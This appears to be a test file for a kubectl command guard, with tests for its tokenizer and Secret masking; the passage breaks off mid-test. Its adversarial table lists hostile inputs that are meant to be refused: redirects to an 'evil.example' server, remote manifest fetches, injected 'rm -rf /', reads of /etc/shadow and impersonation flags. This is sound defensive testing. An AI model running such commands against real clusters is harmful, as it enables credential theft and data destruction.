import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { accessLevels, atLeast, narrowest, type AccessLevel } from '../src/kubectl/access-level.js';
import { guardKubectl, type GuardedCommand } from '../src/kubectl/guard.js';
import { maskSecretValues } from '../src/kubectl/mask-secrets.js';
import { KubectlRefusal, type RefusalRule } from '../src/kubectl/refusal.js';
import { tokenizeCommand } from '../src/kubectl/tokenize.js';

type Row = { command: string; level: AccessLevel; stdin?: string } & (
  | { refused: RefusalRule }
  | { allowed: AccessLevel; expect?: Partial<GuardedCommand> }
);

const RO: AccessLevel = 'read-only';
const RW: AccessLevel = 'read-write';
const ADMIN: AccessLevel = 'admin';
const SECRET_MANIFEST = 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\nstringData:\n  password: hunter2hunter2\n';
const CONFIGMAP_MANIFEST = 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: app\ndata:\n  mode: fast\n';
/** Values that must never be repeated in a refusal message. */
const SENTINELS = ['abc123tokenvalue', 'hunter2hunter2', 'evil.example', '/etc/passwd', '/etc/shadow', 'system:masters'];

const rows: Row[] = [
  // Target and identity flags, in every spelling.
  { command: 'get pods --kubeconfig=/tmp/other', level: ADMIN, refused: 'forbidden-flag' },
  { command: 'get pods --kubeconfig /tmp/other', level: ADMIN, refused: 'forbidden-flag' },
  { command: 'get pods --kubeconfig=', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --context=prod', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --context prod', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --cluster=other', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --user=cluster-admin', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --server=https://evil.example', level: ADMIN, refused: 'forbidden-flag' },
  { command: 'get pods --server https://evil.example', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -s https://evil.example', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -shttps://evil.example', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -s=https://evil.example', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -As https://evil.example', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -Ashttps://evil.example', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --Server=https://evil.example', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods ---server=https://evil.example', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --token=abc123tokenvalue', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --token abc123tokenvalue', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --token=', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --as=system:admin', level: ADMIN, refused: 'forbidden-flag' },
  { command: 'get pods --as system:admin', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --as-group=system:masters', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --as_group=system:masters', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --as-uid=0', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --as-user-extra=scopes=all', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --certificate-authority=/tmp/ca.pem', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --client-certificate=/tmp/c.pem', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --client_key=/tmp/k.pem', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --insecure-skip-tls-verify', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --insecure_skip_tls_verify=true', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --username=admin', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --password=hunter2hunter2', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --tls-server-name=evil.example', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --cache-dir=/tmp/cache', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --kuberc=/tmp/kuberc', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --profile=cpu', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --profile-output=/tmp/p.pprof', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --log-file=/tmp/kubectl.log', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -l --server=https://evil.example', level: RO, refused: 'forbidden-flag' },
  { command: 'exec web -c -- --server=https://evil.example', level: ADMIN, refused: 'forbidden-flag' },
  { command: 'get -- pods --token=abc123tokenvalue', level: RO, refused: 'forbidden-flag' },

  // Verbosity: 6 and above logs request headers.
  { command: 'get pods -v=6', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -v 9', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -v8', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -Av7', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --v=10', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods --vmodule=round_trippers=8', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -v=4', level: RO, allowed: RO },
  { command: 'get pods --v=2 --log-flush-frequency=1s --vmodule=reflector=3', level: RO, allowed: RO },

  // Verbs refused at every level, and verbs not on the list.
  { command: 'config view --raw', level: ADMIN, refused: 'forbidden-verb' },
  { command: 'config use-context other', level: ADMIN, refused: 'forbidden-verb' },
  { command: 'proxy --port=8001', level: ADMIN, refused: 'forbidden-verb' },
  { command: 'port-forward pod/web 8080:80', level: ADMIN, refused: 'forbidden-verb' },
  { command: 'attach web -it', level: ADMIN, refused: 'forbidden-verb' },
  { command: 'edit deploy/web', level: ADMIN, refused: 'forbidden-verb' },
  { command: 'plugin list', level: ADMIN, refused: 'forbidden-verb' },
  { command: 'kustomize .', level: ADMIN, refused: 'forbidden-verb' },
  { command: 'completion bash', level: ADMIN, refused: 'forbidden-verb' },
  { command: 'alpha kuberc view', level: ADMIN, refused: 'forbidden-verb' },
  { command: 'kuberc view', level: ADMIN, refused: 'forbidden-verb' },
  { command: 'apply edit-last-applied deploy/web', level: ADMIN, refused: 'forbidden-verb' },
  { command: 'krew install evil', level: ADMIN, refused: 'unknown-verb' },
  { command: 'options', level: RO, refused: 'unknown-verb' },
  { command: 'constructor', level: RO, refused: 'unknown-verb' },
  { command: 'rollout foo deploy/web', level: RW, refused: 'unknown-subcommand' },
  { command: 'auth impersonate admin', level: RO, refused: 'unknown-subcommand' },
  { command: 'create widget w', level: RW, refused: 'unknown-subcommand' },

  // The verb first, the subcommand right after it.
  { command: '-n default get pods', level: RO, refused: 'verb-first' },
  { command: '--context=prod get pods', level: RO, refused: 'verb-first' },
  { command: '', level: RO, refused: 'verb-first' },
  { command: 'kubectl', level: RO, refused: 'verb-first' },
  { command: 'rollout -n demo status deploy/web', level: RO, refused: 'verb-first' },
  { command: 'top', level: RO, refused: 'verb-first' },
  { command: 'create -n demo token default', level: RW, refused: 'verb-first' },
  { command: 'kubectl get pods', level: RO, allowed: RO, expect: { args: ['get', 'pods'], verb: 'get' } },

  // exec, cp, debug: admin only.
  { command: 'exec web -- ls', level: RO, refused: 'access-level' },
  { command: 'exec web -- ls', level: RW, refused: 'access-level' },
  { command: "exec web -- sh -c 'echo x'", level: ADMIN, allowed: ADMIN, expect: { args: ['exec', 'web', '--', 'sh', '-c', 'echo x'], verb: 'exec' } },
  { command: "exec -it web -c app -- sh -c 'cat /etc/os-release | head -1; env --token=x'", level: ADMIN, allowed: ADMIN },
  { command: 'cp web:/var/log/app.log app.log', level: RW, refused: 'access-level' },
  { command: 'cp demo/web:/var/log/app.log app.log -c app', level: ADMIN, allowed: ADMIN, expect: { verb: 'cp' } },
  { command: 'cp /etc/passwd web:/tmp/passwd', level: ADMIN, refused: 'filename-path' },
  { command: 'cp web:/tmp/x ../x', level: ADMIN, refused: 'filename-path' },
  { command: 'debug node/n1 -it --image=busybox', level: RW, refused: 'access-level' },
  { command: 'debug node/n1 -it --image=busybox --profile=sysadmin -- chroot /host', level: ADMIN, allowed: ADMIN },
  { command: 'debug web --custom=/tmp/spec.json --image=busybox', level: ADMIN, refused: 'forbidden-flag' },
  { command: 'cluster-info dump', level: RO, refused: 'access-level' },
  { command: 'cluster-info dump -A', level: ADMIN, allowed: ADMIN, expect: { subcommand: 'dump', output: 'json' } },
  { command: 'cluster-info dump --output-directory=/tmp/dump', level: ADMIN, refused: 'forbidden-flag' },
  { command: 'create token default', level: RW, refused: 'access-level' },
  { command: 'create token default --duration=10m', level: ADMIN, allowed: ADMIN, expect: { subcommand: 'token' } },
  { command: 'run tmp --image=busybox --privileged', level: RW, refused: 'access-level' },
  { command: 'run tmp --image=busybox --privileged', level: ADMIN, allowed: ADMIN, expect: { requiredLevel: 'admin' } },
  { command: 'run tmp --image=busybox --privileged=false', level: RW, allowed: RW },

  // Requests and files the server would read or fetch for you.
  { command: 'get --raw /api/v1/secrets', level: ADMIN, refused: 'forbidden-flag' },
  { command: 'get --raw=/api/v1/namespaces/default/secrets', level: RO, refused: 'forbidden-flag' },
  { command: `run tmp --image=busybox --overrides='{"spec":{"hostPID":true}}'`, level: RW, refused: 'forbidden-flag' },
  { command: `expose deploy/web --port=80 --overrides '{"spec":{}}'`, level: RW, refused: 'forbidden-flag' },
  { command: 'apply -f https://evil.example/m.yaml', level: RW, refused: 'filename-url' },
  { command: 'apply --filename=https://evil.example/m.yaml', level: RW, refused: 'filename-url' },
  { command: 'apply -f /etc/passwd', level: RW, refused: 'filename-path' },
  { command: 'get -f /etc/passwd', level: RO, refused: 'filename-path' },
  { command: 'apply -f=./deploy.yaml', level: RW, refused: 'filename-path' },
  { command: 'apply -Rf manifests/', level: RW, refused: 'filename-path' },
  { command: 'apply -k .', level: RW, refused: 'forbidden-flag' },
  { command: 'apply --kustomize=.', level: RW, refused: 'forbidden-flag' },
  { command: 'create configmap c --from-file=/etc/shadow', level: RW, refused: 'forbidden-flag' },
  { command: 'create secret generic s --from-env-file=/etc/environment', level: RW, refused: 'forbidden-flag' },
  { command: 'create secret tls t --cert=/etc/ssl/c.pem --key=/etc/ssl/k.pem', level: RW, refused: 'forbidden-flag' },
  { command: 'patch deploy/web --patch-file=/etc/passwd', level: RW, refused: 'forbidden-flag' },
  { command: 'create deployment web --image=nginx --edit', level: RW, refused: 'forbidden-flag' },
  { command: 'get pods -o jsonpath-file=/etc/passwd', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -o go-template-file=/etc/passwd', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -o custom-columns-file=/etc/passwd', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -o templatefile --template=/etc/passwd', level: RO, refused: 'forbidden-flag' },
  { command: 'get pods -o xml', level: RO, refused: 'output-format' },
  { command: 'get pods -o', level: RO, refused: 'output-format' },

  // stdin goes with -f - and only with it.
  { command: 'apply -f -', level: RW, stdin: CONFIGMAP_MANIFEST, allowed: RW, expect: { readsStdin: true, mayReadSecrets: false } },
  { command: 'apply --filename=- --server-side', level: RW, stdin: CONFIGMAP_MANIFEST, allowed: RW, expect: { readsStdin: true } },
  { command: 'create -f-', level: RW, stdin: CONFIGMAP_MANIFEST, allowed: RW, expect: { readsStdin: true } },
  { command: 'apply -f -', level: RW, refused: 'stdin-missing' },
  { command: 'apply -f -', level: RW, stdin: '', refused: 'stdin-missing' },
  { command: 'get pods', level: RO, stdin: CONFIGMAP_MANIFEST, refused: 'stdin-unused' },
  { command: 'apply -f -', level: RO, stdin: CONFIGMAP_MANIFEST, refused: 'access-level' },

  // No shell: standalone operators are refused, anything else is literal text for kubectl.
  { command: 'get pods ; rm -rf /', level: RO, refused: 'no-shell' },
  { command: 'get pods && kubectl delete ns prod', level: RO, refused: 'no-shell' },
  { command: 'get pods || true', level: RO, refused: 'no-shell' },
  { command: 'get pods | grep web', level: RO, refused: 'no-shell' },
  { command: 'get pods > /tmp/out', level: RO, refused: 'no-shell' },
  { command: 'get pods >> /tmp/out', level: RO, refused: 'no-shell' },
  { command: 'apply -f - < /etc/passwd', level: RW, refused: 'no-shell' },
  { command: 'get pods 2>&1', level: RO, refused: 'no-shell' },
  { command: 'get pods &', level: RO, refused: 'no-shell' },
  { command: 'get pods |& cat', level: RO, refused: 'no-shell' },
  { command: 'get pods;rm', level: RO, allowed: RO, expect: { args: ['get', 'pods;rm'] } },
  { command: 'get pods $(cat /etc/passwd)', level: RO, allowed: RO, expect: { args: ['get', 'pods', '$(cat', '/etc/passwd)'] } },
  { command: 'get pods `id`', level: RO, allowed: RO, expect: { args: ['get', 'pods', '`id`'] } },
  { command: 'get pods ";" \\|', level: RO, allowed: RO, expect: { args: ['get', 'pods', ';', '|'] } },
  {
    command: `get pods -o jsonpath='{range .items[*]}{.metadata.name}{"\\n"}{end}'`,
    level: RO,
    allowed: RO,
    expect: { output: 'template', args: ['get', 'pods', '-o', 'jsonpath={range .items[*]}{.metadata.name}{"\\n"}{end}'] },
  },
  {
    command: `get pods -o "jsonpath={.items[?(@.status.phase=='Running')].metadata.name} | {.x}"`,
    level: RO,
    allowed: RO,
    expect: { output: 'template', mayReadSecrets: false },
  },
  { command: 'get pods\nrm -rf /', level: RO, refused: 'control-characters' },
  { command: 'get pods\r', level: RO, refused: 'control-characters' },
  { command: 'get pods\u0000', level: RO, refused: 'control-characters' },
  { command: 'get\tpods', level: RO, refused: 'control-characters' },
  { command: "get pods -l 'app=web", level: RO, refused: 'unbalanced-quote' },
  { command: 'get pods -l "app=web', level: RO, refused: 'unbalanced-quote' },
  { command: 'get pods \\', level: RO, refused: 'unbalanced-quote' },
  { command: `get ${'a'.repeat(5000)}`, level: RO, refused: 'too-long' },
  { command: `get ${'p '.repeat(130)}`, level: RO, refused: 'too-long' },

  // Secrets: every spelling, every output form.
  { command: 'get secret/db -o jsonpath={.data.password}', level: RO, refused: 'secret-values' },
  { command: 'get secrets -o go-template={{.data}}', level: RW, refused: 'secret-values' },
  { command: 'get Secret db -o custom-columns=V:.data', level: RO, refused: 'secret-values' },
  { command: 'get secrets.v1. db --output=jsonpath={.data}', level: RO, refused: 'secret-values' },
  { command: 'get secret.v1 db -ojsonpath={.data}', level: RO, refused: 'secret-values' },
  { command: 'get configmap,secret -o template --template={{.data}}', level: RO, refused: 'secret-values' },
  { command: 'get SECRETS/db --template={{.data}}', level: RO, refused: 'secret-values' },
  { command: 'get -o jsonpath={.data} -- secrets', level: RO, refused: 'secret-values' },
  { command: 'get secrets -w', level: RO, refused: 'secret-values' },
  { command: 'get secrets --watch-only -o yaml', level: RW, refused: 'secret-values' },
  { command: 'get secrets -Aw', level: RO, refused: 'secret-values' },
  { command: 'apply -f - -o jsonpath={.data}', level: RW, stdin: SECRET_MANIFEST, refused: 'secret-values' },
  { command: 'create secret generic s --from-literal=password=x -o jsonpath={.data}', level: RW, refused: 'secret-values' },
  { command: 'set env deploy/web --list --resolve', level: RW, refused: 'secret-values' },
  { command: 'wait --for=jsonpath={.data.password}=guess secret/db', level: RW, refused: 'secret-values' },
  { command: 'get secret db -o yaml', level: RO, allowed: RO, expect: { output: 'yaml', mayReadSecrets: true } },
  { command: 'get secret db -ojson', level: RO, allowed: RO, expect: { output: 'json', mayReadSecrets: true } },
  { command: 'get secret db -o kyaml', level: RO, allowed: RO, expect: { output: 'yaml', mayReadSecrets: true } },
  { command: 'get secrets', level: RO, allowed: RO, expect: { output: 'default', mayReadSecrets: true } },
  { command: 'get secrets -o name', level: RO, allowed: RO, expect: { output: 'name', mayReadSecrets: true } },
  { command: 'describe secret db', level: RO, allowed: RO, expect: { mayReadSecrets: true } },
  { command: 'apply view-last-applied secret/db', level: RW, allowed: RW, expect: { output: 'yaml', mayReadSecrets: true } },
  { command: 'get secret db -o jsonpath={.data}', level: ADMIN, allowed: ADMIN, expect: { output: 'template', mayReadSecrets: true } },
  { command: 'get secrets -w', level: ADMIN, allowed: ADMIN, expect: { streaming: true, mayReadSecrets: true } },
  { command: 'set env deploy/web --list --resolve', level: ADMIN, allowed: ADMIN },
  { command: 'get all -o jsonpath={.items[*].metadata.name}', level: RO, allowed: RO, expect: { mayReadSecrets: false } },
  { command: 'get pods -o custom-columns=NAME:.metadata.name', level: RO, allowed: RO, expect: { output: 'template', mayReadSecrets: false } },
  { command: 'apply -f - -o jsonpath={.metadata.name}', level: RW, stdin: CONFIGMAP_MANIFEST, allowed: RW, expect: { mayReadSecrets: false } },
  { command: 'events --for secret/db -w', level: RO, allowed: RO, expect: { streaming: true, mayReadSecrets: false } },
  { command: 'auth can-i get secrets', level: RO, allowed: RO, expect: { subcommand: 'can-i', mayReadSecrets: false } },

  // What each level may do.
  { command: 'get pods -A -o wide', level: RO, allowed: RO, expect: { output: 'wide', streaming: false } },
  { command: 'get pods -w', level: RO, allowed: RO, expect: { streaming: true } },
  { command: 'describe deploy web -n demo', level: RO, allowed: RO, expect: { verb: 'describe' } },
  { command: 'logs -f web -c app --tail=100', level: RO, allowed: RO, expect: { streaming: true, readsStdin: false } },
  { command: 'logs web -p --insecure-skip-tls-verify-backend', level: RO, allowed: RO, expect: { streaming: false } },
  { command: 'rollout status deploy/web -n demo', level: RO, allowed: RO, expect: { subcommand: 'status', streaming: true } },
  { command: 'rollout status deploy/web --watch=false', level: RO, allowed: RO, expect: { streaming: false } },
  { command: 'rollout history deploy/web', level: RO, allowed: RO, expect: { subcommand: 'history' } },
  { command: 'rollout restart deploy/web', level: RO, refused: 'access-level' },
  { command: 'rollout restart deploy/web', level: RW, allowed: RW, expect: { subcommand: 'restart' } },
  { command: 'auth can-i create pods -n demo', level: RO, allowed: RO, expect: { verb: 'auth', subcommand: 'can-i' } },
  { command: 'auth whoami -o json', level: RO, allowed: RO, expect: { subcommand: 'whoami', output: 'json' } },
  { command: 'auth reconcile -f -', level: RO, stdin: CONFIGMAP_MANIFEST, refused: 'access-level' },
  { command: 'top pods -n demo', level: RO, allowed: RO, expect: { subcommand: 'pod' } },
  { command: 'cluster-info', level: RO, allowed: RO },
  { command: 'explain pods.spec --recursive', level: RO, allowed: RO },
  { command: 'version --client -o yaml', level: RO, allowed: RO, expect: { output: 'yaml' } },
  { command: 'api-resources --namespaced=true -o name', level: RO, allowed: RO },
  { command: 'get pods --disable-compression --request-timeout=5s', level: RO, allowed: RO },
  { command: 'scale deploy/web --replicas=3', level: RO, refused: 'access-level' },
  { command: 'scale deploy/web --replicas=3', level: RW, allowed: RW, expect: { verb: 'scale' } },
  { command: 'delete pod web -n demo', level: RO, refused: 'access-level' },
  { command: 'delete pod web -n demo --wait=false', level: RW, allowed: RW },
  { command: `patch deploy web -p '{"spec":{"replicas":2}}'`, level: RW, allowed: RW },
  { command: 'annotate pods web --overwrite team=a', level: RW, allowed: RW },
  { command: 'set subject rolebinding/admins --user=alice', level: RW, allowed: RW, expect: { subcommand: 'subject' } },
  { command: 'create rolebinding rb --role=view --user=alice', level: RW, allowed: RW, expect: { subcommand: 'rolebinding' } },
  { command: 'create deploy web --image=nginx -r 2', level: RW, allowed: RW, expect: { subcommand: 'deployment' } },
  { command: "run tmp --image=busybox --rm -i --restart=Never -- sh -c 'wget -qO- http://web'", level: RW, allowed: RW },
  { command: 'certificate approve csr-1', level: RW, allowed: RW, expect: { subcommand: 'approve' } },
  { command: 'drain node-1 --ignore-daemonsets --delete-emptydir-data', level: RW, allowed: RW },
];

describe('kubectl guard: adversarial table', () => {
  it(`has at least 90 rows (${rows.length})`, () => {
    assert.ok(rows.length >= 90);
  });

  for (const row of rows) {
    const name = `${JSON.stringify(row.command).slice(0, 90)} at ${row.level}${row.stdin !== undefined ? ' with stdin' : ''}`;
    const options = { level: row.level, ...(row.stdin !== undefined ? { stdin: row.stdin } : {}) };
    if ('refused' in row) {
      it(`refuses ${name} (${row.refused})`, () => {
        assert.throws(
          () => guardKubectl(row.command, options),
          (error: unknown) => {
            assert.ok(error instanceof KubectlRefusal, String(error));
            assert.equal(error.rule, row.refused, error.message);
            assert.ok(error.message.includes(`(rule: ${row.refused}).`), error.message);
            assert.match(error.message, /\(rule: [a-z-]+\)\. \S.{10,}/, 'the message ends with what to do instead');
            for (const sentinel of SENTINELS) assert.ok(!error.message.includes(sentinel), `message repeats ${sentinel}: ${error.message}`);
            return true;
          },
        );
      });
    } else {
      it(`allows ${name} at ${row.allowed}`, () => {
        const guarded = guardKubectl(row.command, options);
        assert.equal(guarded.requiredLevel, row.allowed);
        for (const [key, value] of Object.entries(row.expect ?? {})) {
          assert.deepEqual(guarded[key as keyof GuardedCommand], value, `${key} of ${row.command}`);
        }
      });
    }
  }

  it('returns every field, with args ready for execFile', () => {
    assert.deepEqual(guardKubectl('kubectl rollout status deploy/web -n demo', { level: RO }), {
      args: ['rollout', 'status', 'deploy/web', '-n', 'demo'],
      verb: 'rollout',
      subcommand: 'status',
      requiredLevel: 'read-only',
      output: 'default',
      mayReadSecrets: false,
      streaming: true,
      readsStdin: false,
    });
    assert.equal('subcommand' in guardKubectl('get pods', { level: RO }), false);
  });

  it('names the verb, the level it needs and the caller level in access-level refusals', () => {
    assert.throws(
      () => guardKubectl('exec web -- ls', { level: RO }),
      /kubectl exec needs access level admin; this call has read-only \(rule: access-level\)\. .*get, describe, logs/,
    );
    assert.throws(() => guardKubectl('cluster-info dump', { level: RW }), /kubectl cluster-info dump needs access level admin/);
  });

  it('lists the verbs allowed at the caller level for an unknown verb', () => {
    assert.throws(() => guardKubectl('frobnicate pods', { level: RO }), (error: unknown) => {
      assert.ok(error instanceof KubectlRefusal);
      assert.match(error.message, /'frobnicate' is not an allowed kubectl verb \(rule: unknown-verb\)\. Allowed at read-only: get, describe/);
      assert.ok(!error.message.includes('apply'));
      return true;
    });
    assert.throws(() => guardKubectl('eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.sig get', { level: RO }), (error: unknown) => {
      assert.ok(error instanceof KubectlRefusal);
      assert.ok(!error.message.includes('eyJ'), error.message);
      return true;
    });
  });

  it('says why a verb is refused at every level', () => {
    assert.throws(() => guardKubectl('config view --raw', { level: ADMIN }), /kubectl config is refused at every access level: .*kubeconfig/);
    assert.throws(() => guardKubectl('port-forward svc/web 80', { level: ADMIN }), /listening ports/);
  });

  it('names a refused flag by its long name without its value', () => {
    assert.throws(() => guardKubectl('get pods -As https://evil.example', { level: RO }), /^KubectlRefusal: -s \(--server\) is refused/);
    assert.throws(() => guardKubectl('get pods --token=abc123tokenvalue', { level: RO }), /^KubectlRefusal: --token is refused/);
  });
});

describe('tokenizeCommand', () => {
  it('splits on spaces, however many', () => {
    assert.deepEqual(tokenizeCommand('  get   pods  -n demo '), ['get', 'pods', '-n', 'demo']);
  });

  it('keeps single-quoted text literal', () => {
    assert.deepEqual(tokenizeCommand(`-o 'jsonpath={.a} $HOME \\n "x"'`), ['-o', 'jsonpath={.a} $HOME \\n "x"']);
  });

  it('unescapes only \\" \\\\ \\$ and \\` inside double quotes', () => {
    assert.deepEqual(tokenizeCommand(String.raw`"a \"b\" c\\d \$e \`f\` \n"`), ['a "b" c\\d $e `f` \\n']);
  });

  it('lets a backslash outside quotes escape the next character', () => {
    assert.deepEqual(tokenizeCommand(String.raw`a\ b \' \;`), ['a b', "'", ';']);
  });

  it('joins adjacent quoted and unquoted parts into one word, and keeps empty quotes as an empty word', () => {
    assert.deepEqual(tokenizeCommand(`a'b'"c"d '' ""`), ['abcd', '', '']);
  });

  it('expands nothing', () => {
    assert.deepEqual(tokenizeCommand('$(id) `id` * ~ $HOME ${X} {a,b} !1 #c'), ['$(id)', '`id`', '*', '~', '$HOME', '${X}', '{a,b}', '!1', '#c']);
  });

  it('refuses every standalone shell operator', () => {
    for (const operator of [';', '&&', '||', '|', '&', '>', '>>', '<', '2>', '2>&1', '|&', '&>', '(', ')', '<<<']) {
      assert.throws(
        () => tokenizeCommand(`get pods ${operator} x`),
        (error: unknown) => error instanceof KubectlRefusal && error.rule === 'no-shell' && /run one command per call/i.test(error.message),
        operator,
      );
    }
  });

  it('treats operators inside a word or in quotes as text', () => {
    assert.deepEqual(tokenizeCommand(`pods;rm a&&b x|y '|' ">" \\& 2>x`), ['pods;rm', 'a&&b', 'x|y', '|', '>', '&', '2>x']);
  });

  it('refuses control characters anywhere, even inside quotes', () => {
    for (const c of ['\n', '\r', '\u0000', '\t', '\u001b', '\u007f', '\u0085', '\u2028']) {
      assert.throws(
        () => tokenizeCommand(`get 'po${c}ds'`),
        (error: unknown) => error instanceof KubectlRefusal && error.rule === 'control-characters',
        JSON.stringify(c),
      );
    }
  });

  it('refuses unbalanced quotes and a trailing backslash', () => {
    for (const command of [`get 'pods`, `get "pods`, `get "pods\\"`, 'get pods\\']) {
      assert.throws(() => tokenizeCommand(command), (error: unknown) => error instanceof KubectlRefusal && error.rule === 'unbalanced-quote', command);
    }
  });

  it('caps the length at 4096 characters and 128 words', () => {
    assert.equal(tokenizeCommand('x'.repeat(4096)).length, 1);
    assert.throws(() => tokenizeCommand('x'.repeat(4097)), (error: unknown) => error instanceof KubectlRefusal && error.rule === 'too-long');
    assert.equal(tokenizeCommand(Array(128).fill('a').join(' ')).length, 128);
    assert.throws(() => tokenizeCommand(Array(129).fill('a').join(' ')), (error: unknown) => error instanceof KubectlRefusal && error.rule === 'too-long');
  });
});

describe('access levels', () => {
  it('orders read-only < read-write < admin', () => {
    assert.deepEqual([...accessLevels], ['read-only', 'read-write', 'admin']);
    assert.equal(atLeast('admin', 'read-write'), true);
    assert.equal(atLeast('read-write', 'read-write'), true);
    assert.equal(atLeast('read-only', 'read-write'), false);
  });

  it('narrowest picks the least powerful level, read-only when given none', () => {
    assert.equal(narrowest('admin', 'read-write'), 'read-write');
    assert.equal(narrowest('read-write', 'read-only', 'admin'), 'read-only');
    assert.equal(narrowest('admin'), 'admin');
    assert.equal(narrowest(), 'read-only');
  });
});

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const LAST_APPLIED = 'kubectl.kubernetes.io/last-applied-configuration';

function secret(name: string, data: Record<string, string>, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    kind: 'Secret',
    apiVersion: 'v1',
    metadata: { name, namespace: 'default', ...(extra.annotations ? { annotations: extra.annotations } : {}) },
    data: Object.fromEntries(Object.entries(data).map(([key, value]) => [key, b64(value)])),
    type: 'Opaque',
  };
}

describe('maskSecretValues', () => {
  it('masks a single Secret object in json, reporting the decoded size, with kubectl indentation', () => {
    const text = `${JSON.stringify(secret('db', { password: 's3cr3t-value', user: 'admin' }), null, 4)}\n`;
    const result = maskSecretValues(text, 'json');
    assert.equal(result.maskedSecrets, 1);
    assert.equal(result.withheld, false);
    assert.ok(!result.text.includes(b64('s3cr3t-value')));
    const parsed = JSON.parse(result.text);
    assert.deepEqual(parsed.data, { password: '<masked: 12 bytes>', user: '<masked: 5 bytes>' });
    assert.equal(parsed.metadata.name, 'db');
    assert.equal(parsed.type, 'Opaque');
    assert.match(result.text, /^\{\n {4}"kind": "Secret"/);
  });

  it('masks only the Secrets of a List', () => {
    const list = {
      apiVersion: 'v1',
      kind: 'List',
      items: [secret('db', { password: 's3cr3t-value' }), { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'app' }, data: { mode: 'fast' } }],
      metadata: { resourceVersion: '' },
    };
    const result = maskSecretValues(JSON.stringify(list, null, 4), 'json');
    assert.equal(result.maskedSecrets, 1);
    const parsed = JSON.parse(result.text);
    assert.deepEqual(parsed.items[0].data, { password: '<masked: 12 bytes>' });
    assert.deepEqual(parsed.items[1].data, { mode: 'fast' });
  });

  it('masks concatenated watch-style JSON objects, including watch events', () => {
    const text = [
      JSON.stringify(secret('a', { k: 'value-one' }), null, 4),
      JSON.stringify(secret('b', { k: 'value-two' })),
      JSON.stringify({ type: 'MODIFIED', object: secret('c', { k: 'value-three' }) }),
    ].join('\n');
    const result = maskSecretValues(text, 'json');
    assert.equal(result.maskedSecrets, 3);
    for (const value of ['value-one', 'value-two', 'value-three']) assert.ok(!result.text.includes(b64(value)));
    assert.match(result.text, /"k": "<masked: 9 bytes>"/);
  });

  it('masks Secrets across multi-document yaml and leaves other documents intact', () => {
    const text = [
      'apiVersion: v1',
      'data:',
      `  password: ${b64('s3cr3t-value')}`,
      'kind: Secret',
      'metadata:',
      '  name: db',
      'type: Opaque',
      '---',
      'apiVersion: v1',
      'data:',
      '  mode: fast',
      'kind: ConfigMap',
      'metadata:',
      '  name: app',
      '',
    ].join('\n');
    const result = maskSecretValues(text, 'yaml');
    assert.equal(result.maskedSecrets, 1);
    assert.ok(!result.text.includes(b64('s3cr3t-value')));
    assert.match(result.text, /password: '<masked: 12 bytes>'/);
    assert.match(result.text, /---\n/);
    assert.match(result.text, /mode: fast/);
  });

  it('replaces the last-applied annotation, which holds the values in clear', () => {
    const applied = JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'db' }, stringData: { password: 'plain-text-pw' } });
    const text = [
      'apiVersion: v1',
      'data:',
      `  password: ${b64('plain-text-pw')}`,
      'kind: Secret',
      'metadata:',
      '  annotations:',
      `    ${LAST_APPLIED}: |`,
      `      ${applied}`,
      '    team: a',
      '  name: db',
      '',
    ].join('\n');
    const result = maskSecretValues(text, 'yaml');
    assert.equal(result.maskedSecrets, 1);
    assert.ok(!result.text.includes('plain-text-pw'));
    assert.match(result.text, new RegExp(`${LAST_APPLIED.replaceAll('.', '\\.')}: '<masked`));
    assert.match(result.text, /team: a/);
  });

  it('masks stringData with its UTF-8 size', () => {
    const text = JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'x' }, stringData: { token: 'naïve' } });
    const result = maskSecretValues(text, 'json');
    assert.deepEqual(JSON.parse(result.text).stringData, { token: '<masked: 6 bytes>' });
  });

  it('masks items of a typed SecretList, which carry no kind', () => {
    const text = JSON.stringify({ kind: 'SecretList', apiVersion: 'v1', items: [{ metadata: { name: 'a' }, data: { k: b64('abc') } }] });
